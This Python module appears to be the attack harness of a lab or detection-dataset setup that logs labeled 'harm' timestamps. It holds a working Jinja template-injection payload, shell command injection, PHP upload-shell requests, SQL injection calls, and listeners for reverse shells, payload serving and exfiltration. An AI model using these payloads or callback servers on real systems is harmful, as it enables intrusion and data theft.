"""What every attack needs: requests to the shop, places to be called back at, marks of when what happened."""
import json
import os
import random
import socket
import subprocess
import threading
import time
import urllib.parse

HOME = "198.51.100.7"
SECRET = b"PAYMENT_KEY"
JINJA = "{% set d = {} %}{{ cycler.__init__.__globals__.__builtins__.exec(request.args.c, d) }}{{ d.r }}"


def mark(what):
    """Boot time of a moment, for the labels. The first mark of a kind counts, except of `end`."""
    print(json.dumps({"mark": what, "boot_ns": time.clock_gettime_ns(time.CLOCK_BOOTTIME)}), flush=True)


class Enemy:
    """One attacker: where the site is, where tools are served from, a seed."""

    def __init__(self, site, tools, seed, password):
        self.site, self.tools, self.password = site, tools, password
        self.random = random.Random(seed)

    def http(self, method, path, body=b"", kind="text/plain", timeout=40, more=""):
        head = (f"{method} {path} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nUser-Agent: Mozilla/5.0\r\n"
                f"Content-Type: {kind}\r\nContent-Length: {len(body)}\r\n{more}\r\n")
        try:
            with socket.create_connection((self.site, 80), 5, (HOME, 0)) as stream:
                stream.settimeout(timeout)
                stream.sendall(head.encode() + body)
                answer = b""
                while piece := stream.recv(65536):
                    answer += piece
            return answer
        except OSError as error:
            return str(error).encode()

    def later(self, function, *args):
        """In the background: the answer comes when the attack is over."""
        thread = threading.Thread(target=function, args=args, daemon=True)
        thread.start()
        return thread

    # The holes of the shop.
    def inject(self, command):
        """/api/supplier hands the host's name to a shell."""
        return self.http("GET", "/api/supplier?host=" + urllib.parse.quote("localhost;" + command))

    def python(self, code):
        """/api/preview renders templates: Python inside the API's process."""
        return self.http("POST", "/api/preview?c=" + urllib.parse.quote(code), JINJA.encode())

    def javascript(self, code):
        """/orders/quote evaluates formulas: JavaScript inside the Node process."""
        return self.http("GET", "/orders/quote?formula=" + urllib.parse.quote(code))

    def upload(self, name, content):
        """/upload.php takes any extension."""
        edge = "----x"
        body = (f'--{edge}\r\nContent-Disposition: form-data; name="picture"; filename="{name}"\r\n'
                f"Content-Type: image/jpeg\r\n\r\n").encode() + content + f"\r\n--{edge}--\r\n".encode()
        return self.http("POST", "/upload.php", body, f"multipart/form-data; boundary={edge}")

    def php(self, name, **fields):
        return self.http("GET", f"/uploads/{name}?" + urllib.parse.urlencode(fields))

    def sql(self, text):
        """/api/search puts the question together by hand."""
        return self.http("GET", "/api/search?q=" + urllib.parse.quote(text))

    def ssh(self, user, password, command, timeout=60):
        return subprocess.run(
            ["sshpass", "-p", password, "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
             "-o", "LogLevel=ERROR", "-o", f"BindAddress={HOME}", "-o", "NumberOfPasswordPrompts=1", f"{user}@{self.site}", command],
            stdin=subprocess.DEVNULL, capture_output=True, timeout=timeout)

    def tool(self, name):
        with open(os.path.join(self.tools, name), "rb") as file:
            return file.read()

    def pause(self, seconds):
        time.sleep(seconds * self.random.uniform(0.7, 1.3))


class Listener:
    """A port of the attacker's. Every connection is kept; the first bytes that arrive can be the harm."""

    def __init__(self, port, address=HOME, serve=None, harm=None):
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.socket.bind((address, port))
        self.socket.listen(64)
        self.serve, self.harm, self.received = serve, harm, 0
        self.connections = []
        self.arrived = threading.Event()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            stream, _ = self.socket.accept()
            self.connections.append(stream)
            self.arrived.set()
            if self.serve is not None:
                threading.Thread(target=self._answer, args=(stream,), daemon=True).start()

    def _answer(self, stream):
        try:
            while piece := stream.recv(65536):
                self.received += len(piece)
                if self.harm:
                    mark("harm")
                    self.harm = False
                answer = self.serve(piece)
                if answer is not None:
                    stream.sendall(answer)
                    break
        except OSError:
            pass
        stream.close()

    def wait(self, seconds=8):
        return self.arrived.wait(seconds) and self.connections[0]


def files(enemy, harm=False):
    """A web server of the attacker's tools. The harm may be what the tool does as soon as it is there."""
    def serve(request):
        if harm:
            threading.Timer(0.05, mark, ["harm"]).start()
        name = request.split(b" ")[1].decode().strip("/").split("/")[0]
        content = enemy.tool(name) if os.path.exists(os.path.join(enemy.tools, name)) else b""
        return b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(content) + content
    return Listener(8080, serve=serve)


def drain(port, harm=True):
    """Takes whatever is sent and answers nothing until the other side closes."""
    return Listener(port, serve=lambda piece: b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n" if piece.endswith(b"\r\n0\r\n\r\n") else None, harm=harm)


def converse(stream, commands, pause):
    """Types into a shell that called back; the first answer is the harm."""
    stream.settimeout(3)
    heard = b""
    for command in commands:
        try:
            stream.sendall(command.encode() + b"\n")
            pause(0.8)
            heard += stream.recv(65536)
        except OSError:
            break
        if heard:
            mark("harm")
    try:
        stream.sendall(b"exit\n")
    except OSError:
        pass
    pause(0.3)
    stream.close()
    return heard
